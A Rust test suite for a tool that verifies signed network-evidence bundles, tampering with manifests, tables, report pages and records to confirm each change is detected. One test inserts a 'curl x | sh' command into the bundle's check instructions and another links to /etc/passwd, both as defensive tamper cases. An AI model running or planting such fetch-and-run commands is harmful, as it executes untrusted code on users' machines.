use std::collections::BTreeMap;
use std::fs;

use ssh_key::private::{Ed25519Keypair, KeypairData};
use ssh_key::{Cipher, Kdf, LineEnding, PrivateKey};
use tempfile::TempDir;

use super::super::super::bundle::{BundleOptions, write};
use super::super::super::hash;
use super::super::super::seal::{KeyError, SIGNATURE, Sealer, Unlock};
use super::super::super::testing::{Sample, sample};
use super::*;
use crate::evidence::ResolvedOption;
use crate::evidence::report::title_of;
use crate::evidence::verify::Verdict;
use crate::language::Language;

/// A bundle in a folder of its own.
struct Made {
    around: TempDir,
    folder: PathBuf,
    sample: Sample,
}

fn key(folder: &Path, passphrase: Option<&str>) -> PathBuf {
    let pair = KeypairData::Ed25519(Ed25519Keypair::from_seed(&[7; 32]));
    let mut key = PrivateKey::new(pair, "anne@example.org").unwrap();
    if let Some(passphrase) = passphrase {
        let kdf = Kdf::Bcrypt { salt: vec![1; 16], rounds: 2 };
        key = key.encrypt_with(Cipher::Aes256Ctr, kdf, 5, passphrase).unwrap();
    }
    let path = folder.join("key");
    fs::write(&path, key.to_openssh(LineEnding::LF).unwrap().as_bytes()).unwrap();
    path
}

fn made(with_key: bool) -> Made {
    let around = tempfile::tempdir().unwrap();
    let sample = sample("office-hour.pcapng");
    let folder = around.path().join("bundle");
    let sealer = with_key
        .then(|| Sealer::load(&key(around.path(), None), None, || Unlock::Nothing, None).unwrap());
    let options = BundleOptions { sealer: sealer.as_ref(), zip: true, ..BundleOptions::default() };
    let captures = sample.captures(around.path());
    write(&sample.material(), &sample.case, &captures, &folder, &options).unwrap();
    Made { around, folder, sample }
}

impl Made {
    fn check_at(&self, place: &Path, originals: &[PathBuf]) -> Verification {
        let scratch = tempfile::tempdir_in(self.around.path()).unwrap();
        let options = VerifyOptions {
            originals,
            signers: None,
            scratch: scratch.path(),
            version: "0.0.0-test",
            jobs: 2,
        };
        verify(place, &options).unwrap()
    }

    fn check(&self) -> Verification {
        self.check_at(&self.folder, &[])
    }

    fn wrong(&self) -> Vec<String> {
        wrong(&self.check())
    }

    fn files(&self) -> BTreeMap<String, Vec<u8>> {
        let mut found = BTreeMap::new();
        let mut folders = vec![self.folder.clone()];
        while let Some(folder) = folders.pop() {
            for entry in fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    folders.push(path);
                } else {
                    let name = path.strip_prefix(&self.folder).unwrap().to_str().unwrap();
                    found.insert(name.to_owned(), fs::read(&path).unwrap());
                }
            }
        }
        found
    }

    /// Does something to the bundle, and puts it back afterwards.
    fn after(&self, name: &str, change: impl Fn(&mut Vec<u8>)) -> Vec<String> {
        let path = self.folder.join(name);
        let before = fs::read(&path).unwrap();
        let mut octets = before.clone();
        change(&mut octets);
        assert_ne!(octets, before, "{name}");
        fs::write(&path, octets).unwrap();
        let wrong = self.wrong();
        fs::write(&path, before).unwrap();
        wrong
    }

    /// Writes the manifests anew, as somebody would who hides a change.
    fn redo_manifests(&self) {
        let write = |manifest: &str, is_in: &dyn Fn(&str) -> bool| {
            let line = |(name, octets): (&String, &Vec<u8>)| {
                format!("{}  {name}\n", hash::of_reader(&mut &**octets).unwrap().0)
            };
            let files = self.files();
            let lines: String = files.iter().filter(|(name, _)| is_in(name)).map(line).collect();
            fs::write(self.folder.join(manifest), lines).unwrap();
        };
        write("manifest-sha256.txt", &|name| name.starts_with("data/"));
        write("tagmanifest-sha256.txt", &|name| {
            !name.starts_with("data/") && !name.starts_with("tagmanifest")
        });
    }
}

fn wrong(verification: &Verification) -> Vec<String> {
    let wrong = verification.findings().iter().filter(|f| f.verdict == Verdict::DoesNotHold);
    wrong.map(|finding| finding.text(Language::English)).collect()
}

#[test]
fn an_untouched_bundle_holds_as_a_folder_and_as_a_file_and_with_its_originals() {
    let made = made(true);
    let originals = [made.sample.original().to_owned()];
    for (place, originals) in [
        (made.folder.clone(), &[][..]),
        (made.folder.with_extension("zip"), &[]),
        (made.folder.clone(), &originals),
    ] {
        let verification = made.check_at(&place, originals);
        assert_eq!(wrong(&verification), [""; 0]);
        let keys: Vec<_> = verification.findings().iter().map(|finding| finding.key).collect();
        for key in [
            "verify-files-hold",
            "verify-seal-holds",
            "verify-table-holds",
            "verify-stated-holds",
            "verify-signatures-shipped",
            "verify-figures-hold",
            "verify-check-holds",
            "verify-page-holds",
        ] {
            assert!(keys.contains(&key), "{key}: {keys:?}");
        }
        assert_eq!(keys.contains(&"verify-no-original"), originals.is_empty());
        // captures.csv and unnamed.csv need the originals, from which flows.csv, timeline.csv,
        // tagged_captures.csv and server_names.csv are not made.
        let tables = keys.iter().filter(|key| **key == "verify-table-holds").count();
        assert_eq!(tables, if originals.is_empty() { 10 } else { 10 + 8 });
        for language in Language::ALL {
            for finding in verification.findings() {
                let text = finding.text(language);
                assert!(!text.contains(['{', '$']) && text != finding.key, "{text}");
            }
        }
    }
}

#[test]
fn one_octet_changed_in_any_file_is_named() {
    let made = made(true);
    for (place, (name, octets)) in made.files().into_iter().enumerate() {
        // Another octet in every file: the first, the last, one between.
        let at = [0, octets.len() - 1, octets.len() / 2][place % 3];
        let wrong = made.after(&name, |octets| octets[at] ^= 1);
        let seal = name == SIGNATURE && wrong.iter().any(|text| text.contains("signature"));
        let named = wrong.iter().any(|text| text.contains(&name));
        assert!(named || seal || name.starts_with("tagmanifest"), "{name}: {wrong:?}");
        assert!(!wrong.is_empty(), "{name}");
    }
}

#[test]
fn no_octet_of_manifests_and_signature_can_be_changed() {
    let made = made(true);
    for name in ["tagmanifest-sha256.txt", "tagmanifest-sha256.txt.sig", "manifest-sha256.txt"] {
        let path = made.folder.join(name);
        let octets = fs::read(&path).unwrap();
        for at in (0..octets.len()).step_by(if name == SIGNATURE { 1 } else { 41 }) {
            let mut changed = octets.clone();
            changed[at] ^= 1 << (at % 8);
            fs::write(&path, changed).unwrap();
            let mut verification = Verification::default();
            let signature = name == SIGNATURE;
            let bag = if signature {
                Bag { root: made.folder.clone(), files: sizes(&made) }
            } else {
                Bag::check(&made.folder, &made.folder, &mut verification).unwrap()
            };
            seal::seal(&bag, None, &mut verification);
            assert!(!verification.holds(), "{name}: octet {at}");
        }
        fs::write(&path, octets).unwrap();
    }
}

fn sizes(made: &Made) -> BTreeMap<String, u64> {
    made.files().into_iter().map(|(name, octets)| (name, octets.len() as u64)).collect()
}

#[test]
fn a_file_added_removed_or_renamed_is_named() {
    let made = made(true);
    fs::write(made.folder.join("data/tables/more.csv"), "x").unwrap();
    assert!(made.wrong().iter().any(|text| text.starts_with("data/tables/more.csv was added")));
    fs::remove_file(made.folder.join("data/tables/more.csv")).unwrap();
    fs::write(made.folder.join("more.txt"), "x").unwrap();
    assert!(made.wrong().iter().any(|text| text.starts_with("more.txt was added")));
    fs::remove_file(made.folder.join("more.txt")).unwrap();

    let (one, other) = (made.folder.join("data/CHECK.txt"), made.folder.join("data/CHEK.txt"));
    fs::rename(&one, &other).unwrap();
    let wrong = made.wrong();
    assert!(wrong.iter().any(|text| text == "data/CHECK.txt is missing."), "{wrong:?}");
    assert!(wrong.iter().any(|text| text.starts_with("data/CHEK.txt was added")));
    fs::remove_file(&other).unwrap();
    assert!(made.wrong().iter().any(|text| text == "data/CHECK.txt is missing."));
    for name in ["bag-info.txt", "manifest-sha256.txt", "tagmanifest-sha256.txt", "allowed_signers"]
    {
        let octets = fs::read(made.folder.join(name)).unwrap();
        fs::remove_file(made.folder.join(name)).unwrap();
        let wrong = made.wrong();
        assert!(wrong.iter().any(|text| text.contains(name)), "{name}: {wrong:?}");
        fs::write(made.folder.join(name), octets).unwrap();
    }
    fs::remove_file(made.folder.join("tagmanifest-sha256.txt.sig")).unwrap();
    assert!(made.wrong().iter().any(|text| text.contains("the signature is missing")));
}

/// The first `tagged` row of a table with another number in its last column but one.
fn falsify(octets: &mut Vec<u8>, mark: bool) {
    let text = String::from_utf8(octets.clone()).unwrap();
    let row = text.lines().skip(1).find(|line| line.ends_with(",tagged")).unwrap();
    let (before, last) = row.strip_suffix(",tagged").unwrap().rsplit_once(',').unwrap();
    let other = if mark {
        format!("{before},{last},original")
    } else {
        let digit = last.chars().rev().find(char::is_ascii_digit).unwrap();
        let changed = if digit == '1' { "2" } else { "1" };
        let at = last.rfind(digit).unwrap();
        format!("{before},{}{changed}{},tagged", &last[..at], &last[at + 1..])
    };
    *octets = text.replacen(row, &other, 1).into_bytes();
}

#[test]
fn a_cell_changed_with_the_manifests_written_anew_is_named_and_breaks_the_seal() {
    for mark in [false, true] {
        for table in ["systems.csv", "names.csv", "flows.csv", "balance.csv", "server_names.csv"] {
            let made = made(true);
            let path = made.folder.join("data/tables").join(table);
            let mut octets = fs::read(&path).unwrap();
            falsify(&mut octets, mark);
            fs::write(&path, octets).unwrap();
            made.redo_manifests();
            let wrong = made.wrong();
            let row = format!("This row says other than the captures: {table}, ");
            assert!(wrong.iter().any(|text| text.starts_with(&row)), "{table}: {wrong:?}");
            assert!(wrong.iter().any(|text| text.contains("written anew")), "{table}: {wrong:?}");
            assert!(!wrong.iter().any(|text| text.contains("has changed")), "{wrong:?}");
        }
    }
}

/// Every part of the report that is compared, and what is only stated.
#[test]
fn with_the_originals_every_part_of_the_report_is_written_again() {
    let made = made(true);
    let said = |originals: &[PathBuf], key: &str| {
        let verification = made.check_at(&made.folder, originals);
        let found = verification.findings().iter().find(|finding| finding.key == key);
        found.map(|finding| finding.text(Language::English))
    };
    let originals = [made.sample.original().to_owned()];
    let titles = [
        "Question",
        "Answer",
        "Limits",
        "By system",
        "Over time",
        "By host",
        "Method",
        "Data protection",
        "How to check",
        "Sources",
        "Glossary",
    ];
    let held = said(&originals, "verify-page-holds").unwrap();
    assert_eq!(held.matches(',').count(), titles.len() + 1, "{held}");
    assert_eq!(said(&originals, "verify-page-left"), None);
    assert_eq!(said(&originals, "verify-page-original"), None);
    assert!(said(&originals, "verify-stated-originals-hold").is_some());
    let left = said(&[], "verify-page-original").unwrap();
    assert!(left.contains("Limits") && left.contains("Method"), "{left}");
}

/// What is changed in `record.json`, and where that is told.
type Change = (&'static str, serde_json::Value, &'static str);

fn changes(made: &Made, changes: &[Change], originals: &[PathBuf]) {
    let path = made.folder.join("data/record.json");
    let text = fs::read_to_string(&path).unwrap();
    for (pointer, value, told) in changes {
        let mut record: serde_json::Value = serde_json::from_str(&text).unwrap();
        let (parent, field) = pointer.rsplit_once('/').unwrap();
        let parent = record.pointer_mut(parent).unwrap();
        match parent {
            serde_json::Value::Array(list) if field == "-" => list.push(value.clone()),
            serde_json::Value::Array(list) => list[field.parse::<usize>().unwrap()] = value.clone(),
            parent => parent[field] = value.clone(),
        }
        let text_now = serde_json::to_string_pretty(&record).unwrap() + "\n";
        assert_ne!(text_now, text, "{pointer}");
        fs::write(&path, text_now).unwrap();
        made.redo_manifests();
        let wrong = wrong(&made.check_at(&made.folder, originals));
        assert!(wrong.iter().any(|text| text.contains(told)), "{pointer}: {wrong:?}");
    }
    fs::write(&path, text).unwrap();
    made.redo_manifests();
}

#[test]
fn what_the_record_states_is_held_against_the_rest_of_the_bundle() {
    use serde_json::json;
    for with_key in [true, false] {
        let made = made(with_key);
        let stated: [Change; 23] = [
            ("/case/title", json!("Another"), "bag-info.txt"),
            ("/case/author", json!("Another"), "bag-info.txt"),
            ("/case/case", json!("2026-17"), "bag-info.txt"),
            ("/case/date", json!("2026-01-03"), "bag-info.txt"),
            ("/case/question", json!("Who?"), "Question"),
            ("/case/language", json!("fr"), "bag-info.txt"),
            ("/case/zone", json!("Europe/Paris"), "options: counting"),
            ("/signatures/date", json!("2020-01"), "signatures: date, in_force"),
            ("/signatures/in_force", json!(7), "signatures: date, in_force"),
            ("/signatures/used/-", json!("ms-teams-media"), "data/signatures"),
            ("/options/-", json!({ "name": "magic", "value": "x" }), "options: magic"),
            ("/options/1/value", json!("Europe/Paris"), "options: counting"),
            ("/counting/idle_tcp", json!(7), "options: counting"),
            ("/captures/0/frames", json!(1), "captures, 1: frames"),
            ("/captures/0/sha256", json!("00"), "captures, 1: sha256"),
            ("/captures/0/path", json!("other.pcapng"), "captures, 1: capture"),
            ("/captures/0/first", json!("2026-01-01T00:00:00.000000Z"), "captures, 1: first"),
            ("/captures/0/dropped", json!(99), "captures, 1: dropped"),
            ("/captures/0/damage", json!([{}]), "captures, 1: damage"),
            ("/bundle_captures/0/lost", json!(1), "record.json, bundle_captures"),
            ("/tables/1/original", json!(99), "tables: systems.csv"),
            ("/tables/1/differ", json!(["x"]), "tables: systems.csv"),
            ("/stale_days", json!(400), "record.json, stale_days"),
        ];
        changes(&made, &stated, &[]);
        let originals = [made.sample.original().to_owned()];
        let of_captures: [Change; 9] = [
            ("/captures/0/interfaces/0/snaplen", json!(1), "another: record.json, captures, 1"),
            ("/captures/0/comments", json!([{ "text": "x" }]), "another: record.json, captures, 1"),
            (
                "/markers/-",
                json!({ "time": null, "after_frames": 0, "text": "x" }),
                "record.json, markers",
            ),
            ("/bounds/flows", json!(3), "record.json, bounds"),
            ("/copies/looked", json!(3), "record.json, copies"),
            ("/interrupted", json!(true), "Limits"),
            ("/host", json!({ "name": "a", "kernel": "b" }), "Method"),
            ("/privacy/pseudonymized", json!(true), "has their own addresses"),
            ("/privacy/tenants_masked", json!(true), "names this one: contoso"),
        ];
        changes(&made, &of_captures, &originals);
        assert_eq!(wrong(&made.check_at(&made.folder, &originals)), [""; 0]);
    }
}

#[test]
fn what_people_read_is_written_again_and_every_change_is_named() {
    for with_key in [true, false] {
        let made = made(with_key);
        let after = |name: &str, from: &str, to: &str, originals: &[PathBuf]| {
            let path = made.folder.join(name);
            let text = fs::read_to_string(&path).unwrap();
            assert!(text.contains(from), "{name}: {from}");
            fs::write(&path, text.replacen(from, to, 1)).unwrap();
            made.redo_manifests();
            let wrong = wrong(&made.check_at(&made.folder, originals));
            fs::write(&path, text).unwrap();
            wrong
        };
        let told = |wrong: &[String], what: &str| {
            assert!(wrong.iter().any(|text| text.contains(what)), "{what}: {wrong:?}");
        };
        let page = "data/report.html";
        let originals = [made.sample.original().to_owned()];
        for (fragment, with) in [
            ("timeline", &[][..]),
            ("hosts", &[]),
            ("systems", &[]),
            ("sources", &[]),
            ("glossary", &[]),
            ("question", &[]),
            ("check", &[]),
            ("answer", &originals),
            ("limits", &originals),
            ("method", &originals),
            ("protection", &originals),
        ] {
            let title = title_of(fragment, Language::English).unwrap();
            let wrong = after(
                page,
                &format!("{title}</h2>\n"),
                &format!("{title}</h2>\n<p>5 GB</p>"),
                with,
            );
            told(&wrong, &format!("report.html says other than what was counted: {title}"));
        }
        told(&after(page, "<title>", "<title>x", &[]), "<head>");
        let more = "<section id=\"more\"></section>\n</main>";
        told(&after(page, "</main>", more, &[]), "other parts than");
        told(&after("data/figures/systems.svg", "<svg", "<svg id=\"x\"", &[]), "systems.svg shows");
        let run = after("data/CHECK.txt", "sha256sum -c", "curl x | sh; sha256sum -c", &[]);
        told(&run, "read it before you run it");
        told(
            &after("bag-info.txt", "Contact-Name: Anne", "Contact-Name: Bob", &[]),
            "bag-info.txt",
        );
        let mut files = made.files().into_keys();
        let signature = files.find(|name| name.starts_with("data/signatures/")).unwrap();
        told(&after(&signature, "says = \"", "says = \"x", &[]), "other than in this vigie");
        for (added, what) in [
            ("data/figures/more.svg", "data/figures/more.svg shows"),
            ("data/capture/more.pcapng", "data/capture/more.pcapng"),
            ("data/tables/more.csv", "data/tables/more.csv"),
            ("data/signatures/more.toml", "data/signatures"),
        ] {
            fs::write(made.folder.join(added), "x").unwrap();
            made.redo_manifests();
            told(&made.wrong(), what);
            fs::remove_file(made.folder.join(added)).unwrap();
        }
    }
}

#[test]
fn a_row_removed_or_added_is_named() {
    let made = made(false);
    let path = made.folder.join("data/tables/systems.csv");
    let text = fs::read_to_string(&path).unwrap();
    let row = text.lines().find(|line| line.ends_with(",tagged")).unwrap();
    fs::write(&path, text.replacen(&format!("{row}\r\n"), "", 1)).unwrap();
    made.redo_manifests();
    assert!(made.wrong().iter().any(|text| text.starts_with("This row is missing: systems.csv")));
    fs::write(&path, format!("{text}{row}\r\n")).unwrap();
    made.redo_manifests();
    assert!(made.wrong().iter().any(|text| text.starts_with("This row says other")));
}

#[test]
fn other_captures_are_not_the_originals_and_a_changed_total_is_found_with_them() {
    let made = made(false);
    let other = made.sample.original().with_file_name("car-hotspot.pcap");
    let wrong_ones = wrong(&made.check_at(&made.folder, &[other]));
    assert!(wrong_ones.iter().any(|text| text.contains("none of the captures")), "{wrong_ones:?}");

    let path = made.folder.join("data/tables/balance.csv");
    let text = fs::read_to_string(&path).unwrap();
    let read = text.lines().find(|line| line.starts_with("read,")).unwrap();
    // As long as before, so that the sum of octets is the same.
    let other = read.replacen(['1', '2', '3'], "9", 1);
    assert_ne!(read, other);
    fs::write(&path, text.replacen(read, &other, 1)).unwrap();
    made.redo_manifests();
    assert_eq!(made.wrong(), [""; 0]);
    let wrong_ones = wrong(&made.check_at(&made.folder, &[made.sample.original().to_owned()]));
    assert!(wrong_ones.iter().any(|text| text.contains("balance.csv, 2: read")), "{wrong_ones:?}");
}

/// Of a bundle with names out of a resolver's log, the captures give what no name changes.
#[test]
fn with_a_log_of_names_the_totals_alone_are_counted_from_the_originals() {
    let around = tempfile::tempdir().unwrap();
    let mut sample = sample("office-hour.pcapng");
    let option = ResolvedOption { name: "dns-log", value: "queries.log".to_owned() };
    sample.gathered.options.push(option);
    let folder = around.path().join("bundle");
    let captures = sample.captures(around.path());
    let options = BundleOptions::default();
    write(&sample.material(), &sample.case, &captures, &folder, &options).unwrap();
    let made = Made { around, folder, sample };
    let originals = [made.sample.original().to_owned()];
    let verification = made.check_at(&made.folder, &originals);
    assert_eq!(wrong(&verification), [""; 0]);
    let said: Vec<String> =
        verification.findings().iter().map(|finding| finding.text(Language::English)).collect();
    assert!(said.iter().any(|text| text.contains("resolver’s log")), "{said:?}");
    let held = said.iter().filter(|text| text.contains("balance.csv")).count();
    assert_eq!(held, 2, "from the bundle's captures, and from the originals: {said:?}");

    for (table, row) in [("balance.csv", "not IP,"), ("captures.csv", "0,")] {
        let path = made.folder.join("data/tables").join(table);
        let text = fs::read_to_string(&path).unwrap();
        let before = text.lines().find(|line| line.starts_with(row));
        let before = before.unwrap_or_else(|| text.lines().nth(1).unwrap());
        let (kept, mark) = before.rsplit_once(',').unwrap();
        let (kept, number) = kept.rsplit_once(|c: char| c.is_ascii_digit()).unwrap();
        let changed = format!(
            "{kept}{}{number},{mark}",
            if before.contains(&format!("{kept}7")) { 8 } else { 7 }
        );
        fs::write(&path, text.replacen(before, &changed, 1)).unwrap();
        made.redo_manifests();
        let wrong_ones = wrong(&made.check_at(&made.folder, &originals));
        assert!(wrong_ones.iter().any(|text| text.contains(table)), "{changed}: {wrong_ones:?}");
        fs::write(&path, text).unwrap();
        made.redo_manifests();
    }
}

#[test]
fn a_seal_of_somebody_else_is_no_seal() {
    let made = made(true);
    let scratch = tempfile::tempdir().unwrap();
    let options = VerifyOptions {
        originals: &[],
        signers: Some(
            "bob ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        ),
        scratch: scratch.path(),
        version: "0.0.0-test",
        jobs: 2,
    };
    let wrong = wrong(&verify(&made.folder, &options).unwrap());
    assert!(
        wrong.iter().any(|text| text.contains("which allowed_signers does not have")),
        "{wrong:?}"
    );
}

#[cfg(unix)]
#[test]
fn links_in_a_bundle_are_named_and_not_followed() {
    let made = made(false);
    std::os::unix::fs::symlink("/etc/passwd", made.folder.join("data/link")).unwrap();
    assert!(made.wrong().iter().any(|text| text.starts_with("data/link is a link")));
    fs::remove_file(made.folder.join("data/link")).unwrap();
    let name = "data/record.json";
    let elsewhere = made.around.path().join("record.json");
    fs::rename(made.folder.join(name), &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, made.folder.join(name)).unwrap();
    let wrong = made.wrong();
    assert!(wrong.iter().any(|text| text.starts_with("data/record.json is a link")), "{wrong:?}");
}

#[test]
fn what_is_no_bundle_is_refused() {
    let around = tempfile::tempdir().unwrap();
    let options = VerifyOptions {
        originals: &[],
        signers: None,
        scratch: around.path(),
        version: "",
        jobs: 1,
    };
    let refused = verify(around.path(), &options).unwrap_err();
    assert!(matches!(refused, Unverifiable::NotABag(_)), "{refused}");
    let file = around.path().join("x.zip");
    fs::write(&file, "no archive").unwrap();
    let refused = verify(&file, &options).unwrap_err().to_string();
    assert!(refused.contains("not a ZIP archive"), "{refused}");
    assert!(verify(&around.path().join("none"), &options).is_err());
}

#[test]
fn a_protected_key_opens_with_its_passphrase_alone() {
    let around = tempfile::tempdir().unwrap();
    let path = key(around.path(), Some("correct horse"));
    let load = |unlock: Unlock| Sealer::load(&path, Some("Anne"), || unlock, None);
    assert_eq!(load(Unlock::With("correct horse".to_owned())).unwrap().identity(), "Anne");
    assert!(matches!(load(Unlock::With("x".to_owned())), Err(KeyError::WrongPassphrase(_))));
    assert!(matches!(load(Unlock::Nothing), Err(KeyError::Protected(_))));
    fs::write(&path, "no key").unwrap();
    assert!(matches!(load(Unlock::Nothing), Err(KeyError::NotAKey(_))));
    let public =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x";
    fs::write(&path, public).unwrap();
    assert!(matches!(load(Unlock::Nothing), Err(KeyError::NoAgent(_))));
}
